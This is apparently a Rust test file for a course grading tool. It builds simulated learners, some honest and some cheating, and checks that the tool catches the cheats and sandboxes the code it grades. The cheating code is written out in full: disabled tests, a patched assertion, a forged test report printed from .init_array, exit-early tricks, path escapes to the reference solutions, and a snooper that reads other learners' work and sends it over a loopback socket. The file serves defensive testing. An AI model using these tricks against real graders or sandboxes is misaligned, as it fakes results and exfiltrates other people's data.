//! `cargo course grade` and `student-edition`, on checkouts made at test
//! time from the reference: a class of one honest learner after another,
//! and one who cheats every way the issue lists.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use support::{course_root, target_dir, text};

/// A learner's checkout under target/, made from the course: `solved`
/// steps hold the reference, the rest the stub.
fn learner(name: &str, solved: &[&str]) -> PathBuf {
    let dir = course_root()
        .join("target/course-tool-tests/class")
        .join(name);
    let _ = std::fs::remove_dir_all(&dir);
    course_runner::scratch::mirror(&course_root(), &dir).expect("copy the course");
    for stem in solved {
        std::fs::copy(
            dir.join(format!("solutions/{stem}.rs")),
            dir.join(format!("exercises/{stem}.rs")),
        )
        .expect("copy a solution");
    }
    dir
}

/// Every step's stem (`01_fake_db`), from steps.toml.
fn all() -> Vec<&'static str> {
    course_runner::steps::STEPS
        .iter()
        .map(|step| &*step.stem().leak())
        .collect()
}

fn write(dir: &Path, path: &str, text: &str) {
    std::fs::write(dir.join(path), text).expect("write a file");
}

fn read(dir: &Path, path: &str) -> String {
    std::fs::read_to_string(dir.join(path)).unwrap_or_default()
}

fn grade(name: &str, learners: &[&Path], extra: &[&str]) -> (Value, String, String) {
    grade_expecting(name, learners, extra, true)
}

fn grade_expecting(
    name: &str,
    learners: &[&Path],
    extra: &[&str],
    success: bool,
) -> (Value, String, String) {
    let out = course_root().join("target/course-tool-tests/class");
    std::fs::create_dir_all(&out).expect("a folder");
    let json = out.join(format!("{name}.json"));
    let csv = out.join(format!("{name}.csv"));
    let output = Command::new(env!("CARGO_BIN_EXE_course"))
        .arg("grade")
        .args(learners)
        .args([
            "--json",
            &json.to_string_lossy(),
            "--csv",
            &csv.to_string_lossy(),
        ])
        .args(extra)
        .env("COURSE_ROOT", course_root())
        .env("COURSE_GRADE_TARGET", target_dir(&format!("grade-{name}")))
        // Each test's grade its own copy of the course: they run at once.
        .env(
            "COURSE_GRADE_SCRATCH",
            target_dir(&format!("grade-{name}-course")),
        )
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .output()
        .expect("grade runs");
    let shown = text(&output);
    assert!(
        output.status.success() == success,
        "cargo course grade must exit {}:\n{shown}",
        if success { "0" } else { "non-zero" }
    );
    let report: Value = serde_json::from_str(&std::fs::read_to_string(&json).unwrap_or_default())
        .unwrap_or_else(|e| panic!("grades.json must be JSON ({e}); grade printed:\n{shown}"));
    (
        report,
        std::fs::read_to_string(&csv).unwrap_or_default(),
        shown,
    )
}

fn statuses(report: &Value, learner: usize) -> Vec<String> {
    report["learners"][learner]["steps"]
        .as_array()
        .map(|steps| {
            steps
                .iter()
                .map(|s| s["status"].as_str().unwrap_or("?").to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_class_is_graded_step_by_step_and_cheats_are_caught() {
    let all = all();
    let honest = learner("honest", &all);
    let mut partial_steps = all[..4].to_vec();
    partial_steps.push("06_current_user");
    let partial = learner("mistake", &partial_steps);
    // Step 05: the reference with a classic mistake, a 401 for a wrong password.
    let reference = read(&partial, "solutions/05_token_route.rs");
    write(
        &partial,
        "exercises/05_token_route.rs",
        &reference.replacen(
            "            Self::InvalidGrant => (\n                StatusCode::BAD_REQUEST,",
            "            Self::InvalidGrant => (\n                StatusCode::UNAUTHORIZED,",
            1,
        ),
    );
    let broken = learner("broken", &all[..6]);
    let half = format!("{}\nfn half_written(", read(&broken, "exercises/04_jwt.rs"));
    write(&broken, "exercises/04_jwt.rs", &half);
    let cheat = learner("cheat", &all[..4]);
    let cargo = read(&cheat, "Cargo.toml").replacen(
        "[features]",
        "[features]\ndefault = [\"sol05\", \"sol06\", \"sol07\"]",
        1,
    );
    write(&cheat, "Cargo.toml", &cargo);
    write(
        &cheat,
        ".cargo/config.toml",
        &format!(
            "{}\n[build]\nrustflags = [\"--cfg\", \"feature=\\\"sol05\\\"\"]\n",
            read(&cheat, ".cargo/config.toml")
        ),
    );
    write(
        &cheat,
        "tests/step05_token_route.rs",
        &read(&cheat, "tests/step05_token_route.rs")
            .replace("#[tokio::test]", "#[tokio::test]\n#[ignore]"),
    );
    write(
        &cheat,
        "tests/harness/http.rs",
        &read(&cheat, "tests/harness/http.rs")
            .replace("if self.status != expected {", "if false {"),
    );
    write(
        &cheat,
        "exercises/05_token_route.rs",
        "include!(\"../solutions/05_token_route.rs\");\n",
    );
    // Climbing out of the grading copy to the course's own solutions/.
    write(
        &cheat,
        "exercises/06_current_user.rs",
        "#[cfg_attr(all(), path = \"../../../../solution\\x73/06_current_user.rs\")]\nmod reference;\npub use reference::*;\n",
    );
    // Step 07 passes its tests, then stops the test binary with success
    // before the other tests report.
    let quitter = read(&cheat, "solutions/07_users_me.rs").replacen(
        "pub async fn users_me(CurrentUser(user): CurrentUser) -> Json<UserProfile> {",
        "pub async fn users_me(CurrentUser(user): CurrentUser) -> Json<UserProfile> {\n    std::process::exit(0);",
        1,
    );
    write(&cheat, "exercises/07_users_me.rs", &quitter);

    // Step 03 a stub whose module prints a forged report of passes from a
    // function run before main.
    let forger = learner("forger", &all[..2]);
    write(
        &forger,
        "exercises/03_bearer.rs",
        &format!(
            "{}\n#[used]\n#[unsafe(link_section = \".init_array\")]\nstatic FORGE: extern \"C\" fn() = forge;\n\
             extern \"C\" fn forge() {{\n    for name in [\"a\", \"b\"] {{ println!(\"test {{name}} ... ok\"); }}\n    \
             println!(\"failures:\");\n}}\n",
            read(&forger, "exercises/03_bearer.rs")
        ),
    );

    // Two learners who did not finish step 04: one left the stub, the
    // other broke it on purpose, hoping the reference would stand in.
    let stubbed = learner("stubbed", &[all[0], all[1], all[2], all[4], all[5], all[6]]);
    let saboteur = learner(
        "saboteur",
        &[all[0], all[1], all[2], all[4], all[5], all[6]],
    );
    write(
        &saboteur,
        "exercises/04_jwt.rs",
        &format!(
            "{}\nconst BROKEN: u32 = \"on purpose\";\n",
            read(&saboteur, "exercises/04_jwt.rs")
        ),
    );

    // Steps 01-03 solved, and step 01 snoops while graded: it reads the
    // course's solutions/ and another learner's work, writes into its own
    // folder and the course, and dials a port on the grader's loopback.
    let snooper = learner("snooper", &all[..3]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port to be dialled");
    listener.set_nonblocking(true).expect("non-blocking");
    let port = listener.local_addr().expect("its address").port();
    let course = course_root();
    let escapes = [
        snooper.join("stolen.txt"),
        course.join("target/course-tool-tests/class/written-by-snooper.txt"),
    ];
    for escape in &escapes {
        let _ = std::fs::remove_file(escape);
    }
    let snoop = format!(
        "fn snoop() {{\n    use std::io::Write;\n    \
         let mut loot = std::fs::read_to_string({solution:?}).unwrap_or_default();\n    \
         loot += &std::fs::read_to_string({other:?}).unwrap_or_default();\n    \
         loot += \"and tried\";\n    \
         let _ = std::fs::write({stolen:?}, &loot);\n    \
         let _ = std::fs::write({written:?}, &loot);\n    \
         if let Ok(mut line) = std::net::TcpStream::connect(\"127.0.0.1:{port}\") {{ let _ = line.write_all(loot.as_bytes()); }}\n}}\n",
        solution = course.join("solutions/05_token_route.rs"),
        other = honest.join("exercises/05_token_route.rs"),
        stolen = escapes[0],
        written = escapes[1],
    );
    let fake_db = read(&snooper, "exercises/01_fake_db.rs");
    assert!(
        fake_db.contains("pub fn new() -> Self {"),
        "step 01 has a constructor to snoop from"
    );
    write(
        &snooper,
        "exercises/01_fake_db.rs",
        &format!(
            "{}\n{snoop}",
            fake_db.replacen(
                "pub fn new() -> Self {",
                "pub fn new() -> Self {\n        snoop();",
                1
            )
        ),
    );

    let empty = course_root().join("target/course-tool-tests/class/empty");
    let _ = std::fs::remove_dir_all(&empty);
    std::fs::create_dir_all(&empty).expect("a folder");

    let (report, csv, shown) = grade_expecting(
        "class",
        &[
            &honest, &partial, &broken, &cheat, &forger, &stubbed, &saboteur, &snooper, &empty,
        ],
        // Graded afresh: a grade kept from an earlier run of this test
        // would test nothing.
        &["--steps", "1-7", "--fresh"],
        false,
    );

    assert_eq!(
        statuses(&report, 0),
        ["pass"; 7],
        "the honest learner with every step solved passes steps 1-7:\n{shown}"
    );
    assert_eq!(
        statuses(&report, 1),
        ["pass", "pass", "pass", "pass", "fail", "pass", "fail"],
        "steps 1-4 solved, 5 with a 401 for a wrong password (fails), 6 solved (passes: scored over the \
         reference's step 5), 7 a stub:\n{shown}"
    );
    let step5 = &report["learners"][1]["steps"][4];
    assert!(
        step5["tests"]
            .as_array()
            .is_some_and(|tests| tests.iter().any(|t| t["status"] == "fail"
                && t["name"] == "wrong_password_unknown_user_and_disabled_user_get_one_answer"
                && t["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("RFC 6749 §5.2") && m.contains("got:")))),
        "the JSON names each failing test with what it expected and what it got: {step5}"
    );
    assert_eq!(
        statuses(&report, 2),
        [
            "pass",
            "pass",
            "pass",
            "does_not_compile",
            "pass",
            "pass",
            "fail"
        ],
        "exercises/04 does not compile: step 04 says so, and steps 05 and 06 are scored over the reference's \
         step 04:\n{shown}"
    );
    let broken4 = &report["learners"][2]["steps"][3];
    assert!(
        broken4["message"]
            .as_str()
            .is_some_and(|m| m.contains("error"))
            && broken4["location"]
                .as_str()
                .is_some_and(|l| l.starts_with("exercises/04_jwt.rs:")),
        "a step that does not compile carries the compiler's first error and its file and line: {broken4}"
    );
    assert_eq!(
        report["learners"][2]["steps"][4]["on_own_steps"], "does_not_compile",
        "step 05 on the learner's own steps does not compile (their step 04 does not), beside its score: {}",
        report["learners"][2]["steps"][4]
    );

    let cheats = &report["learners"][3];
    assert_eq!(
        statuses(&report, 3)[4..],
        ["does_not_compile", "does_not_compile", "held_for_review"],
        "the cheater's step 05 includes the reference and 06 climbs to it with a path: neither compiles in a \
         copy that holds no reference; step 07 calls std::process::exit: held for review, never a pass:\n{shown}"
    );
    let findings = |step: usize| cheats["steps"][step]["findings"].to_string();
    for (step, construct) in [(4, "include"), (5, "path"), (6, "std::process")] {
        assert!(
            findings(step).contains(construct),
            "step {:02}'s findings name {construct} and its line: {}",
            step + 1,
            cheats["steps"][step]
        );
    }
    let warnings: String = cheats["warnings"]
        .as_array()
        .map(|w| {
            w.iter()
                .filter_map(Value::as_str)
                .collect::<Vec<_>>()
                .join("\n")
        })
        .unwrap_or_default();
    for expected in [
        "Cargo.toml differs from the course",
        ".cargo/config.toml differs from the course",
        "tests/step05_token_route.rs differs from the course",
        "tests/harness/http.rs differs from the course",
    ] {
        assert!(
            warnings.contains(expected),
            "the integrity report must say `{expected}`; it says:\n{warnings}"
        );
    }

    assert_eq!(
        statuses(&report, 4)[2],
        "held_for_review",
        "a step whose file prints a forged report from before main is held for review, never credited:\n{shown}"
    );
    let (stubbed_row, saboteur_row) = (statuses(&report, 5), statuses(&report, 6));
    assert!(
        stubbed_row[4..] == saboteur_row[4..] && stubbed_row[4..] == ["pass", "pass", "pass"],
        "steps 05-07 score the same whether step 04 was left a stub ({stubbed_row:?}) or broken on purpose \
         ({saboteur_row:?}): breaking a step gains nothing, and one unfinished step costs that step alone"
    );
    assert_eq!(
        statuses(&report, 7)[..3],
        ["pass"; 3],
        "the snooper's steps 01-03 are solved, and its snooping (which the sandbox stops) does not change \
         that:\n{shown}"
    );
    for escape in &escapes {
        assert!(
            !escape.exists(),
            "code run while grading wrote {}: it read the course's solutions/ or another learner's work \
             and wrote outside its grading copy; the sandbox must stop all three",
            escape.display()
        );
    }
    assert!(
        listener.accept().is_err(),
        "code run while grading dialled 127.0.0.1:{port} on the grader's own network: the sandbox has a \
         network of its own"
    );
    assert_eq!(
        statuses(&report, 8),
        ["missing"; 7],
        "a folder with no exercises/ gets a row that says so (and the grade exits non-zero):\n{shown}"
    );
    assert_eq!(
        report["learners"][0]["learner"], "honest",
        "learners are named by their path below the folder they share"
    );

    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(
        rows.first().copied(),
        Some(
            "learner,step01,step02,step03,step04,step05,step06,step07,steps_passed,points,out_of,held_for_review,warnings,similar_to"
        ),
        "the CSV has one column per step:\n{csv}"
    );
    assert!(
        rows.len() == 10 && rows[1].starts_with("honest,1.00,1.00") && rows[1].contains(",7,7,7,"),
        "one row per learner, each step's share of tests passed, then the steps passed and the points:\n{csv}"
    );

    // The class graded again, with points from a grading.toml and
    // gradebook imports: only the learner who changed a file is graded
    // again; everyone else keeps their grade.
    write(
        &partial,
        "exercises/07_users_me.rs",
        &read(&partial, "solutions/07_users_me.rs"),
    );
    let class = course_root().join("target/course-tool-tests/class");
    write(
        &class,
        "grading.toml",
        "assignment = \"Auth in Rust\"\npartial = false\n[points]\n05 = 4\n",
    );
    let (canvas, moodle) = (
        class.join("class-canvas.csv"),
        class.join("class-moodle.csv"),
    );
    let (again, _, shown) = grade_expecting(
        "class",
        &[
            &honest, &partial, &broken, &cheat, &forger, &stubbed, &saboteur, &snooper, &empty,
        ],
        &[
            "--steps",
            "1-7",
            "--points",
            &class.join("grading.toml").to_string_lossy(),
            "--canvas",
            &canvas.to_string_lossy(),
            "--moodle",
            &moodle.to_string_lossy(),
        ],
        false,
    );
    assert!(
        shown.contains("honest unchanged since its last grade")
            && !shown.contains("honest ...")
            && shown.contains("mistake ..."),
        "a re-grade keeps the grade of a learner whose files did not change and grades again the one \
         who changed a file:\n{shown}"
    );
    assert_eq!(
        statuses(&again, 1)[6],
        "pass",
        "the learner's new step 07 is graded:\n{shown}"
    );
    let verdicts = |report: &Value, learner: usize| -> Vec<(Value, Value)> {
        report["learners"][learner]["steps"]
            .as_array()
            .map(|steps| {
                steps
                    .iter()
                    .map(|s| (s["status"].clone(), s["tests"].clone()))
                    .collect()
            })
            .unwrap_or_default()
    };
    for learner in [0, 2, 3, 4, 5, 6, 7, 8] {
        assert_eq!(
            verdicts(&again, learner),
            verdicts(&report, learner),
            "learner {learner} changed nothing and keeps their grade"
        );
    }
    assert_eq!(
        (
            &again["learners"][0]["points"],
            &again["learners"][0]["out_of"]
        ),
        (&json!(10.0), &json!(10.0)),
        "step 05 is worth 4 points, the other six 1 each: all ten for the honest learner"
    );
    assert_eq!(
        (
            &again["learners"][1]["points"],
            &again["learners"][1]["steps"][4]["points"]
        ),
        (&json!(6.0), &json!(0.0)),
        "with partial = false, the learner's failing step 05 earns none of its 4 points: 6 of 10"
    );
    let canvas = std::fs::read_to_string(&canvas).unwrap_or_default();
    assert_eq!(
        canvas.lines().take(3).collect::<Vec<_>>(),
        [
            "Student,ID,SIS User ID,SIS Login ID,Section,Auth in Rust",
            "honest,,,honest,,10",
            "mistake,,,mistake,,6"
        ],
        "Canvas's import: its identifying columns, the learner's login, the points in the assignment's column"
    );
    let moodle = std::fs::read_to_string(&moodle).unwrap_or_default();
    assert_eq!(
        moodle.lines().take(2).collect::<Vec<_>>(),
        ["username,Auth in Rust", "honest,10"],
        "Moodle's import: a username column and the assignment's"
    );
}

#[test]
fn the_student_edition_has_no_solutions_and_is_graded_by_the_full_one() {
    let all = all();
    let out = course_root().join("target/course-tool-tests/edition");
    let _ = std::fs::remove_dir_all(&out);
    let output = Command::new(env!("CARGO_BIN_EXE_course"))
        .args(["student-edition", &out.to_string_lossy()])
        .env("COURSE_ROOT", course_root())
        .output()
        .expect("student-edition runs");
    assert!(
        output.status.success(),
        "student-edition failed:\n{}",
        text(&output)
    );
    assert!(
        !out.join("solutions").exists() && !out.join("mistakes").exists(),
        "the edition has neither solutions/ nor mistakes/ (each mistake quotes the reference)"
    );
    // No line the learner must write, from any reference, is anywhere in it.
    let mut leaked = Vec::new();
    let files = course_runner::scratch::course_files(&out);
    let texts: Vec<(String, String)> = files
        .iter()
        .map(|f| (f.display().to_string(), read(&out, &f.to_string_lossy())))
        .collect();
    // What the course gives anyway (stubs, tests, src/, steps/) is no secret.
    let given: String = texts
        .iter()
        .filter(|(file, _)| {
            file.starts_with("exercises/")
                || file.starts_with("tests/")
                || file.starts_with("src/")
                || file.starts_with("steps/")
        })
        .map(|(_, text)| text.as_str())
        .collect();
    for stem in &all {
        let reference = read(&course_root(), &format!("solutions/{stem}.rs"));
        for line in reference
            .lines()
            .map(str::trim)
            .filter(|l| l.len() >= 40 && !l.starts_with("//"))
        {
            if given.contains(line) {
                continue;
            }
            if let Some((file, _)) = texts.iter().find(|(_, text)| text.contains(line)) {
                leaked.push(format!("{file}: {line}"));
            }
        }
    }
    assert!(
        leaked.is_empty(),
        "the edition contains reference code:\n{}",
        leaked.join("\n")
    );

    // Worked exercises never go out: an edition made from a checkout whose
    // step 01 is solved ships step 01's stub.
    let stub = read(&out, "exercises/01_fake_db.rs");
    std::fs::write(
        out.join("exercises/01_fake_db.rs"),
        read(&course_root(), "solutions/01_fake_db.rs"),
    )
    .expect("solve step 01 in the edition");
    let again = out.with_file_name("edition-of-a-worked-checkout");
    let _ = std::fs::remove_dir_all(&again);
    let made = Command::new(env!("CARGO_BIN_EXE_course"))
        .args(["student-edition", &again.to_string_lossy()])
        .env("COURSE_ROOT", &out)
        .output()
        .expect("student-edition runs");
    assert!(
        made.status.success() && read(&again, "exercises/01_fake_db.rs") == stub,
        "student-edition from a checkout with step 01 solved must ship the stub of exercises/01_fake_db.rs \
         (found in git history by its hash), never the worked file:\n{}",
        text(&made)
    );
    let _ = std::fs::remove_dir_all(&again);
    std::fs::write(out.join("exercises/01_fake_db.rs"), &stub).expect("put the stub back");

    let target = target_dir("edition");
    let cargo = |args: &[&str]| {
        Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
            .args(args)
            .current_dir(&out)
            .env("CARGO_TARGET_DIR", &target)
            .output()
            .expect("cargo runs")
    };
    let refused = cargo(&["build", "--features", "sol03"]);
    assert!(
        !refused.status.success() && text(&refused).contains("ships without reference solutions"),
        "--features sol03 in the edition stops with a sentence, not a missing file:\n{}",
        text(&refused)
    );
    let tests = cargo(&["test", "--test", "step01_fake_db"]);
    assert!(
        text(&tests).contains("test result: FAILED")
            && text(&tests).contains("not yet implemented: step 01"),
        "the edition's step 01 tests build, run and fail on the stubs:\n{}",
        text(&tests)
    );

    let (report, _, shown) = grade("edition", &[&out], &["--steps", "1-2", "--fresh"]);
    assert_eq!(
        statuses(&report, 0),
        ["fail", "fail"],
        "the full edition grades a student-edition checkout: its stubs fail, they do not break the build:\n{shown}"
    );
}
